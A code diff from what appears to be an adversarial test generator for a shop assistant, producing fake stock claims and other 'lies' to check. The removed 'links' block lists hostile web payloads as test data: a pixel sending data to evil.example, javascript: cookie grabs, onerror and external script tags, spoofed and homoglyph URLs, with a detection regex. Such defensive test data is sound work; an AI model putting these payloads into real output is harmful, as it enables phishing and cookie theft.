@@ -1,5 +1,6 @@
-import type { SampleProduct, World } from './adversary-world.ts'
+import type { PaperWorld, SampleProduct } from './adversary-world.ts'
 import { moreLies } from './model-scripts-claims.ts'
+import { links } from './model-scripts-links.ts'
 import { nearLies } from './model-scripts-near.ts'
 import { hidden, type Lie, lie, type Maker, prices, spaced } from './model-scripts-prices.ts'
 import type { Random } from './proof-run.ts'
@@ -60,7 +61,11 @@ const stocks: Maker[] = [
   },
   (world, random) => {
     const hasThree = ({ variants }: SampleProduct) => variants.some(({ inventory }) => inventory === 3)
-    const { title } = random.pick(world.products.filter((one) => !hasThree(one)))
+    const [other = { title: 'Xenon Kettle' }] = random.sample(
+      world.products.filter((one) => !hasThree(one)),
+      1,
+    )
+    const { title } = other
     return lie('stock', `${title} selling fast, just three left.`, 'just three left')
   },
 ]
@@ -237,33 +242,6 @@ const contacts: Maker[] = [
     ])
   },
 ]
-const links: Maker[] = [
-  (_, random) => {
-    const say = random.pick([
-      '![pixel](https://evil.example/p.png?d=aGVsbG8) Look!',
-      '[click here](https://evil.example/win) for your prize.',
-      '[pay](javascript:alert(document.cookie)) now.',
-      'See https://shop.example.evil.example/x for more.',
-      'See https://shop.example@evil.example/x for more.',
-      'See hxxps://evil.example/x please.',
-      'Go to evil.example/win quickly.',
-      'Go to www.evil.example now.',
-      '<img src=x onerror=alert(1)> hi',
-      '<script src="https://evil.example/a.js"></script> hi',
-      '<a href="https://evil.example">our shop</a>',
-      'Open //evil.example/path now.',
-      'Open data:text/html;base64,PHNjcmlwdD4= now.',
-      'Open https://evil\u200b.example/ now.',
-      'Open https://ehttps://evil.example/vil.example now.',
-      '&lt;img src=x onerror=alert(1)&gt; hi',
-      '[ref]\n\n[ref]: https://evil.example/ref',
-      'Visit еvil.example (with a Cyrillic letter).',
-      'Go to evil(dot)example today.',
-    ])
-    const core = /evil(?:\(dot\)|\.)example|javascript:|<script|<img|data:text|onerror|vil\.example/.exec(say)?.[0]
-    return lie('link', say, core ?? 'evil')
-  },
-]
 const others: Maker[] = [
   ({ otherProducts, otherOrders }, random) => {
     const { title } = random.pick(otherProducts)
@@ -297,4 +275,5 @@ export const lies = {
 }
 export type LieGroup = keyof typeof lies
 
-export const tellLie = (group: LieGroup, world: World, random: Random): Lie => random.pick(lies[group])(world, random)
+export const tellLie = (group: LieGroup, world: PaperWorld, random: Random): Lie =>
+  random.pick(lies[group])(world, random)
